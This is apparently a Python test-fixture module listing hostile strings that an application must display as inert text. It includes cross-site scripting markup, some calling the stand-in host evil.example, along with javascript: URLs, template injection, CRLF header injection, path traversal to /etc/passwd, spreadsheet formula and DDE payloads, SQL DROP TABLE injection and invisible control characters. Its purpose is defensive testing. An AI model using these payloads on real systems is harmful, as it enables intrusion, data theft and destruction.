"""What hostile reports, names, addresses and file names may hold."""

from __future__ import annotations

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script closed": "</title></textarea></script><script src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><g><script>alert(1)</script></g></svg>",
    "foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "base": "<base href='https://evil.example/'>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action=https://evil.example/><button>Log in</button></form>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
}
"""Markup: shown as the words that it is, never as markup."""

ATTRIBUTES = {
    "double": '" onmouseover="alert(1)" x="',
    "single": "' onfocus='alert(1)' autofocus='",
    "backtick": "` onload=alert(1) `",
    "closing": '"><input autofocus onfocus=alert(1)>',
}
"""What would leave an attribute."""

ADDRESSES = {
    "javascript": "javascript:alert(document.domain)",
    "javascript tab": "java\tscript:alert(1)",
    "javascript upper": "JaVaScRiPt:alert(1)//https://example.org/",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "quoted": 'https://example.org/" onmouseover="alert(1)',
    "protocol": "//evil.example/x",
}
"""Addresses that lead elsewhere than they seem, or run something."""

TEMPLATES = {
    "jinja": "{{ 'xy' * 4 }}",
    "jinja block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "python": "{0.__class__} %(x)s ${'xy' * 4} #{'xy' * 4}",
}
"""What a template would work out: none of it is ever a template."""
WORKED_OUT = "xyxyxyxy"

STEERING = {
    "bidi": "\u202eevil\u202c \u2066isolated\u2069",
    "nul": "before\0after",
    "escape": "\x1b[31mred\x1b]0;title\x07",
    "zero width": "ad\u200bmin\u2060\ufeff",
    "tags": "\U000e0041\U000e0042",
    "separators": "one\u2028two\u2029three",
}
"""What steers a page or a terminal, or is not seen."""

HEADERS = {"header": "name\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>"}
PATHS = {"path": "../../../../etc/passwd", "windows": "..\\..\\boot.ini", "absolute": "/etc/passwd", "device": "CON"}
FORMULAS = {"formula": '=HYPERLINK("https://evil.example","x")', "plus": "+1+cmd|' /C calc'!A0", "at": "@SUM(1)"}
SQL = {"sql": "'; DROP TABLE reports; --", "like": "%_[\\", "match": 'NEAR("a" OR *:^'}
LONG = {"long word": "x" * 3_000, "long marks": "<" * 500, "many words": "held " * 200}

PAYLOADS = {
    **MARKUP, **ATTRIBUTES, **ADDRESSES, **TEMPLATES, **STEERING, **HEADERS, **PATHS, **FORMULAS, **SQL, **LONG,
}  # fmt: skip
"""All of them, by name."""
